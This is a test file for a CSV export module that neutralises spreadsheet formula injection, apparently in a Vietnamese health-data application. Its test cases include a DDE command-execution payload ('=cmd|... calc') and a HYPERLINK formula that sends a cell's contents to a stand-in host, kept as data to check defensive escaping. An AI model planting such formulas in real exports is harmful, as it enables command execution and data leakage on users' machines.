import { csvField, csvRecord, looksLikeFormula, neutraliseFormula } from '../../src/domain/spreadsheet';
import { parseCsv } from '../../src/ingest/csv';

/** Formula strings are kept as data and neutralised on the way into a spreadsheet. */
describe('neutraliseFormula', () => {
  test.each([
    // stored text, what a spreadsheet receives
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"], // the DDE payload the intrusion test stored
    ['=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'],
    ['+1+1', "'+1+1"],
    ['-2+3+cmd|x', "'-2+3+cmd|x"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"], // a leading tab
    ['\r=1', "'\r=1"], // a leading carriage return
    ['  =1+1', "'  =1+1"], // spaces before the trigger
    ['＝1+1', "'＝1+1"], // full-width equals
    ['－1', "'－1"], // full-width minus (not a plain number)
    ['-5', '-5'], // plain numbers are values, not formulas
    ['+84912345678', '+84912345678'],
    ['-0.25', '-0.25'],
    ['1e-3', '1e-3'],
    ['Trạm y tế = CDC', 'Trạm y tế = CDC'], // a trigger later in the text is harmless
    ['CDC Đồng Nai', 'CDC Đồng Nai'],
    ['', ''],
    ["'=already", "'=already"], // an apostrophe first: already text
  ])('%j → %j', (text, expected) => {
    expect(neutraliseFormula(text)).toBe(expected);
    expect(looksLikeFormula(text)).toBe(expected !== text);
  });
});

describe('csvField and csvRecord', () => {
  test.each([
    [null, ''],
    [undefined, ''],
    [12, '12'],
    [-3.5, '-3.5'],
    [Number.NaN, ''],
    [true, 'true'],
    ['Long Bình', '"Long Bình"'],
    ['a "b"', '"a ""b"""'],
    ['=1+1', '"\'=1+1"'],
    ['x;=1+1', '"x;=1+1"'], // quoted: a ;-splitting spreadsheet keeps it one cell
  ])('%j → %s', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  test('a record reads back as the neutralised values, one field each', () => {
    const values = ['VNM.17.1_1', "=cmd|' /C calc'!A0", 'a,b', 'dòng 1\ndòng 2', 'x;@y', 7, null];
    const text = csvRecord(values);
    expect(text.endsWith('\r\n')).toBe(true);
    const [rec] = parseCsv(text);
    expect(rec?.fields).toEqual(['VNM.17.1_1', "'=cmd|' /C calc'!A0", 'a,b', 'dòng 1\ndòng 2', 'x;@y', '7', '']);
  });
});
